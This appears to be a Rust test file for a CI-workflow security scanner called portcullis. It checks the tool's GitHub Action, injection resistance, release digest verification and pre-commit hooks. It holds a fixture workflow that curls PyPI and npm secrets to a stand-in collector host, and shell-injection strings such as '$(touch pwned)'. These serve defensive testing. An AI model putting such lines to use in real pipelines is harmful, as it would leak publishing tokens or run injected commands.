//! `action.yml`, the pre-commit hooks and the examples of docs/ci.md: they fit the program, do what they say, and our own
//! scanner finds nothing in them.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    reason = "a test fails by panicking"
)]

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;

use portcullis_scan::yaml::{Node, parse};

const PROGRAM: &str = env!("CARGO_BIN_EXE_portcullis");
const STEAL: &str = "name: Security\non: [push]\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in\n";

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn read(name: &str) -> String {
    std::fs::read_to_string(root().join(name)).unwrap()
}

fn at(node: &Arc<Node>, path: &[&str]) -> Arc<Node> {
    path.iter().fold(Arc::clone(node), |node, name| Arc::clone(node.get(name).unwrap()))
}

fn text(node: &Arc<Node>) -> String {
    node.text().unwrap().to_owned()
}

fn entries(node: &Arc<Node>) -> BTreeMap<String, Arc<Node>> {
    node.entries().into_iter().map(|(name, value)| (text(name), Arc::clone(value))).collect()
}

/// The options that help lists.
fn options() -> BTreeSet<String> {
    let help = Command::new(PROGRAM).args(["scan", "--help"]).output().unwrap();
    String::from_utf8_lossy(&help.stdout)
        .split_whitespace()
        .filter_map(|word| word.strip_prefix("--"))
        .map(|word| word.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').next().unwrap().to_owned())
        .collect()
}

/// Runs the action's only step as GitHub does: its script in a file, given to bash, with the step's environment.
struct Runner {
    folder: tempfile::TempDir,
}

impl Runner {
    fn new(workflow: Option<&str>) -> Self {
        let folder = tempfile::tempdir().unwrap();
        if let Some(workflow) = workflow {
            std::fs::create_dir_all(folder.path().join(".github/workflows")).unwrap();
            std::fs::write(folder.path().join(".github/workflows/w.yml"), workflow).unwrap();
        }
        Self { folder }
    }

    fn run(&self, inputs: &[(&str, &str)]) -> (Output, String) {
        self.run_with_path(&std::env::var("PATH").unwrap(), inputs)
    }

    fn run_with_path(&self, path: &str, inputs: &[(&str, &str)]) -> (Output, String) {
        let action = parse(&read("action.yml")).unwrap();
        let declared = entries(&at(&action, &["inputs"]));
        for (name, _) in inputs {
            assert!(declared.contains_key(*name), "the action has no input {name}");
        }
        let steps = at(&action, &["runs", "steps"]);
        let [step] = steps.items()[..] else { panic!("one step") };
        let temporary = self.folder.path().join("temporary");
        std::fs::create_dir_all(&temporary).unwrap();
        let (script, output) = (temporary.join("step.sh"), temporary.join("output"));
        std::fs::write(&script, text(&at(step, &["run"]))).unwrap();
        std::fs::write(&output, "").unwrap();
        let mut command = Command::new("bash");
        command
            .args(["--noprofile", "--norc", "-e", "-o", "pipefail"])
            .arg(&script)
            .current_dir(self.folder.path());
        for (name, value) in entries(&at(step, &["env"])) {
            let value = text(&value);
            let expression = value.strip_prefix("${{ ").and_then(|rest| rest.strip_suffix(" }}")).unwrap();
            let value = match expression.strip_prefix("inputs.") {
                Some(input) => inputs
                    .iter()
                    .find(|(name, _)| *name == input)
                    .map(|(_, value)| (*value).to_owned())
                    .unwrap_or_else(|| text(&at(&declared[input], &["default"]))),
                None => match expression {
                    "github.server_url" => String::from("https://forge.invalid"),
                    "github.action_repository" => String::from("example-org/portcullis"),
                    other => panic!("{other} is nothing that the script should need"),
                },
            };
            command.env(name, value);
        }
        let platform = [("RUNNER_OS", "Linux"), ("RUNNER_ARCH", "X64")];
        let ran = command
            .envs(platform)
            .env("PATH", path)
            .env("RUNNER_TEMP", &temporary)
            .env("GITHUB_OUTPUT", &output)
            .env_remove("GITHUB_API_URL")
            .output()
            .unwrap();
        (ran, std::fs::read_to_string(output).unwrap())
    }
}

#[test]
fn the_actions_inputs_are_the_programs_options_and_all_are_used_and_documented() {
    let action = parse(&read("action.yml")).unwrap();
    let own = BTreeSet::from(["version", "sha256", "binary", "paths", "fail"].map(str::to_owned));
    let inputs: BTreeSet<String> = entries(&at(&action, &["inputs"])).into_keys().collect();
    let passed: BTreeSet<String> = inputs.difference(&own).cloned().collect();
    assert!(passed.is_subset(&options()), "{passed:?} are not all options of `scan`");
    let steps = at(&action, &["runs", "steps"]);
    let step = steps.items()[0];
    let script = text(&at(step, &["run"]));
    for name in &passed {
        assert!(script.contains(&format!("--{name}")), "--{name} is not passed on");
    }
    assert!(!script.contains("${{"), "nothing is put into the script's text");
    let environment: BTreeSet<String> = entries(&at(step, &["env"])).values().map(text).collect();
    for name in &inputs {
        assert!(environment.contains(&format!("${{{{ inputs.{name} }}}}")), "{name} reaches nothing");
        assert!(read("docs/ci.md").contains(&format!("`{name}`")), "{name} is not documented");
    }
}

#[test]
fn the_action_runs_the_program_and_says_what_it_found() {
    let runner = Runner::new(Some(STEAL));
    let (ran, outputs) = runner.run(&[("binary", PROGRAM)]);
    assert_eq!(ran.status.code(), Some(1), "{}", String::from_utf8_lossy(&ran.stderr));
    assert_eq!(outputs, "sarif=portcullis.sarif\nfound=true\n");
    let sarif = std::fs::read_to_string(runner.folder.path().join("portcullis.sarif")).unwrap();
    let sarif: serde_json::Value = serde_json::from_str(&sarif).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    let id =
        sarif["runs"][0]["results"][0]["partialFingerprints"].as_object().unwrap().values().next().unwrap();
    let accepted = format!("{}=known", id.as_str().unwrap());
    let (ran, outputs) = runner.run(&[("binary", PROGRAM), ("fail", "false"), ("output", "a b.sarif")]);
    assert_eq!((ran.status.code(), outputs.as_str()), (Some(0), "sarif=a b.sarif\nfound=true\n"));
    let (ran, outputs) = runner.run(&[("binary", PROGRAM), ("accept", &format!("\n{accepted}\n"))]);
    assert_eq!((ran.status.code(), outputs.as_str()), (Some(0), "sarif=portcullis.sarif\nfound=false\n"));
    let benign = Runner::new(Some("on: push\njobs: {t: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n"));
    assert!(benign.run(&[("binary", PROGRAM)]).1.ends_with("found=false\n"));
    let nothing = Runner::new(None);
    let (ran, outputs) = nothing.run(&[("binary", PROGRAM)]);
    assert_eq!((ran.status.code(), outputs.as_str()), (Some(2), ""), "nothing scanned is no clean result");
}

#[test]
fn inputs_are_never_words_or_options_of_the_shell() {
    let runner = Runner::new(Some(STEAL));
    for hostile in
        ["$(touch pwned)", "`touch pwned`", "; touch pwned", "--output=pwned", "x\n--output=pwned", "' \" \\"]
    {
        for input in ["paths", "since", "indicators", "accept", "min-verdict"] {
            runner.run(&[("binary", PROGRAM), (input, hostile)]);
            assert!(!runner.folder.path().join("pwned").exists(), "{input}: {hostile}");
        }
    }
    for path in ["--help", "--version"] {
        let (ran, outputs) = runner.run(&[("binary", PROGRAM), ("paths", path)]);
        assert_eq!((ran.status.code(), outputs.as_str()), (Some(2), ""), "{path} is a path");
    }
    let (ran, outputs) = runner.run(&[("binary", PROGRAM), ("output", "x\nfound=false")]);
    assert_eq!((ran.status.code(), outputs.as_str()), (Some(2), ""));
}

#[test]
fn a_release_is_run_only_if_its_digest_is_the_one_that_was_given() {
    let runner = Runner::new(Some(STEAL));
    let digest = "0".repeat(64);
    for inputs in [
        [("version", ""), ("sha256", "")],
        [("version", "0.1.0"), ("sha256", "")],
        [("version", "0.1.0"), ("sha256", &digest[1..])],
        [("version", "0.1.0/../x"), ("sha256", &digest)],
    ] {
        let (ran, outputs) = runner.run(&inputs);
        assert_eq!((ran.status.code(), outputs.as_str()), (Some(2), ""), "{inputs:?}");
    }
    // A `curl` that hands out an archive of ours, as the release's server would.
    let folder = runner.folder.path();
    let tools = folder.join("tools");
    std::fs::create_dir(&tools).unwrap();
    let script = "#!/usr/bin/env bash\nset -e\necho \"$@\" > asked\nwhile [ \"$1\" != --output ]; do shift; done\ncp release.tar.gz \"$2\"\n";
    std::fs::write(tools.join("curl"), script).unwrap();
    let chmod = Command::new("chmod").arg("+x").arg(tools.join("curl")).status().unwrap();
    assert!(chmod.success());
    let releases = folder.join("releases");
    let packed = Command::new(root().join(".ci/release")).arg(&releases).arg(PROGRAM).output().unwrap();
    assert!(packed.status.success(), "{}", String::from_utf8_lossy(&packed.stderr));
    let said = String::from_utf8_lossy(&packed.stdout).into_owned();
    let (real, archive) = said.trim_end().split_once("  ").unwrap();
    std::fs::copy(archive, folder.join("release.tar.gz")).unwrap();
    let listed = Command::new("tar").arg("-tzf").arg(archive).output().unwrap();
    let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
    for name in ["portcullis", "man/portcullis-scan.1", "completions/portcullis.zsh", "LICENSE-MIT"] {
        assert!(listed.lines().any(|line| line == name), "{name} is not in {listed}");
    }
    let path = format!("{}:{}", tools.display(), std::env::var("PATH").unwrap());
    for (given, code) in [(real, Some(1)), (digest.as_str(), Some(2))] {
        let (ran, _) = runner.run_with_path(
            &path,
            &[
                ("version", env!("CARGO_PKG_VERSION")),
                ("sha256", given),
                ("paths", ".github/workflows/w.yml"),
            ],
        );
        assert_eq!(
            ran.status.code(),
            code,
            "{}{}",
            String::from_utf8_lossy(&ran.stdout),
            String::from_utf8_lossy(&ran.stderr)
        );
    }
    let asked = std::fs::read_to_string(folder.join("asked")).unwrap();
    let version = env!("CARGO_PKG_VERSION");
    let name = format!("portcullis-{version}-x86_64-unknown-linux-gnu.tar.gz");
    assert_eq!(Path::new(archive).file_name().unwrap(), name.as_str());
    let address = format!("https://forge.invalid/example-org/portcullis/releases/download/v{version}/{name}");
    assert!(asked.trim_end().ends_with(&address) && asked.contains("--proto =https"), "{asked}");
}

#[test]
fn our_own_scanner_finds_nothing_in_the_action_and_the_examples() {
    let folder = tempfile::tempdir().unwrap();
    let workflows = folder.path().join(".github/workflows");
    std::fs::create_dir_all(&workflows).unwrap();
    std::fs::write(folder.path().join("action.yml"), read("action.yml")).unwrap();
    let git = Command::new("git").args(["init", "--quiet"]).current_dir(folder.path()).status().unwrap();
    assert!(git.success());
    let document = read("docs/ci.md");
    let examples: Vec<&str> =
        document.split("```yaml\n").skip(1).map(|rest| rest.split("```").next().unwrap()).collect();
    let mut count = 0;
    for example in &examples {
        parse(example).unwrap();
        if example.contains("runs-on:") {
            std::fs::write(workflows.join(format!("{count}.yml")), example).unwrap();
            count += 1;
            for uses in example.lines().filter_map(|line| line.split("uses: ").nth(1)) {
                let commit = uses.split(['@', ' ']).nth(1).unwrap();
                assert!(
                    commit.len() == 40 && commit.chars().all(|c| c.is_ascii_hexdigit()),
                    "{uses} is not pinned"
                );
            }
        }
    }
    assert!(count >= 2 && examples.len() >= 4, "{count} of {}", examples.len());
    let output = Command::new(PROGRAM)
        .args(["scan", "--format", "json", "--min-verdict", "advice"])
        .arg(folder.path())
        .output()
        .unwrap();
    let found: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(found["stats"]["workflow_versions"], count + 1, "{found}");
    assert_eq!((&found["findings"], &found["problems"]), (&serde_json::json!([]), &serde_json::json!([])));
}

#[test]
fn the_hooks_run_and_look_at_what_they_say() {
    let hooks = parse(&read(".pre-commit-hooks.yaml")).unwrap();
    let mut names = Vec::new();
    for hook in hooks.items() {
        let entry = text(&at(hook, &["entry"]));
        let words: Vec<&str> = entry.split(' ').collect();
        assert_eq!((words[0], text(&at(hook, &["pass_filenames"]))), ("portcullis", String::from("false")));
        for (workflow, code) in
            [(STEAL, 1), ("on: push\njobs: {t: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n", 0)]
        {
            let runner = Runner::new(Some(workflow));
            let output =
                Command::new(PROGRAM).args(&words[1..]).current_dir(runner.folder.path()).output().unwrap();
            assert_eq!(
                output.status.code(),
                Some(code),
                "{entry}: {}",
                String::from_utf8_lossy(&output.stderr)
            );
        }
        names.push(text(&at(hook, &["id"])));
        assert!(read("docs/ci.md").contains(&format!("id: {}", names.last().unwrap())));
    }
    assert_eq!(names, ["portcullis", "portcullis-history"]);
    let files = text(&at(hooks.items()[0], &["files"]));
    let pattern = regex::Regex::new(&files).unwrap();
    for path in
        [".github/workflows/a.yml", "action.yaml", "actions/x/action.yml", ".forgejo/workflows/b.yaml"]
    {
        assert!(pattern.is_match(path), "{path}");
    }
    for path in ["src/main.rs", "docs/reaction.yml", ".github/README.md"] {
        assert!(!pattern.is_match(path), "{path}");
    }
}
